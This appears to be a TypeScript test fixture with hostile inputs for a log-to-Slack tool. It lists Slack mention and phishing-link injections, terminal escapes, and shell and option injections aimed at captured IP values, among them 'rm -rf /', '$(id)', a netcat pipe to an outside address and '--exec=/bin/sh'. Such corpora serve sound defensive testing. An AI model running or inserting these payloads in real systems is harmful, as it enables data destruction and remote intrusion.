// A corpus shared by the Slack tests.

/** Log text an attacker could write, aimed at Slack. */
export const HOSTILE = [
  '<!channel> everyone look',
  '<!here|here> and <!everyone>',
  '<@U024BE7LH> and <@W123|boss>',
  '<#C024BE7LR|general>',
  '<!subteam^S123|@security>',
  '<http://evil.example/login|Click to re-authenticate>',
  '<mailto:a@b.c|mail me>',
  'https://evil.example/x?a=1&b=2',
  'hxxp://still.evil.example',
  '@channel @here @everyone',
  '``` closing the code block ``` *bold* _it_ ~strike~',
  'ansi \u001b[31mred\u001b[0m and \u001b]8;;http://evil\u0007link\u001b]8;;\u0007',
  'nul\u0000bell\u0007 del\u007f c1\u0085 bidi\u202Eevil\u202C zw\u200Bsp',
  'new\nline\r\nand\ttab',
  '&lt;!channel&gt; pre-escaped',
  'x'.repeat(70_000),
  '😀'.repeat(5000),
];

// What an attacker can put into a capture by writing it into a log line.
const SHELL = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| nc 6.6.6.6 4444',
  '&& reboot',
  '> /etc/passwd',
  "' OR 1=1",
  '"; id; "',
];
const OPTIONS = ['-rf', '--help', '-o/tmp/x', '--exec=/bin/sh', '-', '--'];
const WHITESPACE = ['1.2.3.4 5.6.7.8', '1.2.3.4\n5.6.7.8', '1.2.3.4\t-j ACCEPT', ' 1.2.3.4', '1.2.3.4 ', '\r1.2.3.4'];
const LOOKALIKES = ['１.２.３.４', '1.2.3.4\u200b', '1․2․3․4', 'ｒｏｏｔ', 'rооt', '1.2.3.4\u202e', '\u00001.2.3.4'];
const MALFORMED = [
  '999.1.1.1',
  '1.2.3',
  '1.2.3.4.5',
  '1.2.3.4/33',
  '::g',
  '2001:db8::1::1',
  '',
  ' ',
  '0x7f.1',
  'localhost:22',
];
const LONG = ['1'.repeat(100_000), `${'a'.repeat(33)}`, `${'a.'.repeat(200)}com`, `1.2.3.4${' '.repeat(5000)}`];
// biome-ignore lint/suspicious/noTemplateCurlyInString: ${IFS} is what a shell would expand; it must stay literal.
const ENCODED = ['%3Bid', '1.2.3.4%0a', '\\x3bid', '&#59;id', '${IFS}id', '$IFS', '~root', '*', '?', '[a-z]', '{a,b}'];
/** Captures an attacker could aim at a command: each alone, and glued to a real address (not the empty one). */
export const HOSTILE_CAPTURES = [
  ...new Set(
    [...SHELL, ...OPTIONS, ...WHITESPACE, ...LOOKALIKES, ...MALFORMED, ...LONG, ...ENCODED].flatMap((v) => [
      v,
      `203.0.113.7${v}`,
      `${v}203.0.113.7`,
    ]),
  ),
].filter((v) => v !== '203.0.113.7');
